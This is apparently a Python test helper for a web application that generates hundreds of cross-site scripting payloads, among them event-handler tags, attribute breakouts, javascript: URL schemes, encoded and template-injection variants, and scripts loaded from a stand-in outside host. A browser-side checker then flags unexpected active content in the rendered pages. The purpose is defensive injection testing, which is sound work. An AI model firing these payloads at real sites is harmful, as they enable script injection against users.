"""Texts that want to become active in a page, and what would be active there."""
CALL = "window.turnoRan=1"
CODES = (CALL, f"{CALL}//", f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in CALL)}))", "alert(1)", "confirm`1`")
TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "select autofocus", "textarea autofocus",
        "iframe", "object data=x", "marquee", "math", "a href=x", "form", "button", "style", "link rel=stylesheet href=x", "b", "x")
EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onanimationstart", "onbegin", "onpointerenter")
BREAKS = ('">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</option></select>", "</svg>", "&quot;&gt;", "\\\">")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\x01javascript:", "javascript&colon;", "data:text/html,<script>", "vbscript:", "//elsewhere.example/")
CARRIERS = ('<a href="{0}">x</a>', '<form action="{0}"><button>x</button></form>', '<iframe src="{0}"></iframe>', '<object data="{0}"></object>',
            '<embed src="{0}">', '<meta http-equiv="refresh" content="0;url={0}">', '<base href="{0}">', '<img src="{0}">', '<svg><use href="{0}"/></svg>',
            '<math><mi xlink:href="{0}">x</mi></math>', '<button formaction="{0}">x</button>', '<link rel="import" href="{0}">')
OWN = (
    "{{{frame.csrf}}}", "{{>head}}", "{{#frame}}<script>x</script>{{/frame}}", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<isindex action=javascript:alert(1) type=image>", "\u2028<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<script\u0000>alert(1)</script>", "<script src=//elsewhere.example/x.js></script>", "<style>@import '//elsewhere.example/x.css'</style>", "<p style=\"background:url(javascript:alert(1))\">",
    "<p style=\"behavior:url(x.htc)\">", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href=javascript:alert(1)?>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "[x](javascript:alert(1))", "![x](javascript:alert(1))",
    "` onmouseover=alert(1) x=`", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "\" autofocus onfocus=alert(1) x=\"", "x\" style=\"x:expression(alert(1))",
)
# Runs in the page: what is there, or in each of the pages that it is given, that no template put there. Scripts and styles are the office's own
# files, nothing has an event in an attribute.
ACTIVE = """
const here = location.origin;
const urls = ["href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href", "background", "cite", "ping", "srcset", "content", "to"];
const judge = doc => {
const bad = [];
for (const element of doc.querySelectorAll("*")) {
  const name = element.localName;
  if (["iframe", "object", "embed", "base", "frame", "applet", "animate", "set", "math", "template", "video", "audio", "marquee", "style"].includes(name)) bad.push(element.outerHTML.slice(0, 200));
  if (name === "script" && !/^\\/static\\/turno\\.js(\\?|$)/.test(element.getAttribute("src") || "")) bad.push(element.outerHTML.slice(0, 200));
  if (name === "link" && !/^\\/static\\//.test(element.getAttribute("href") || "")) bad.push(element.outerHTML.slice(0, 200));
  if (name === "meta" && element.httpEquiv) bad.push(element.outerHTML.slice(0, 200));
  for (const {name: attribute, value} of element.attributes) {
    if (/^on/i.test(attribute) || attribute === "style") bad.push(name + " " + attribute + "=" + value);
    if (urls.includes(attribute) && name !== "meta") {
      let url;
      try { url = new URL(value, here); } catch (e) { bad.push(name + " " + attribute + "=" + value); continue; }
      const map = name === "a" && url.origin === "https://www.openstreetmap.org";
      if (!(url.origin === here || map)) bad.push(name + " " + attribute + "=" + value);
    }
  }
}
if (window.turnoRan) bad.push("a script ran");
return bad;
};
return arguments[0] ? arguments[0].map(html => judge(new DOMParser().parseFromString(html, "text/html"))) : judge(document);
"""


def active_texts():
    """The texts, each different, none a copy of a list that goes about."""
    found = [f"<script>{code}</script>" for code in CODES]
    found += [f"<{tag} {EVENTS[n % len(EVENTS)]}={CODES[n % 3]}>" for n, tag in enumerate(TAGS)]
    found += [f"{broken}<img src=x {EVENTS[n % len(EVENTS)]}={CODES[(n + k) % len(CODES)]}>" for n, broken in enumerate(BREAKS) for k in range(3)]
    found += [carrier.format(scheme + CALL) for carrier in CARRIERS for scheme in SCHEMES]
    found += [f"{broken}<script>{CALL}</script>" for broken in BREAKS] + list(OWN)
    return list(dict.fromkeys(found))
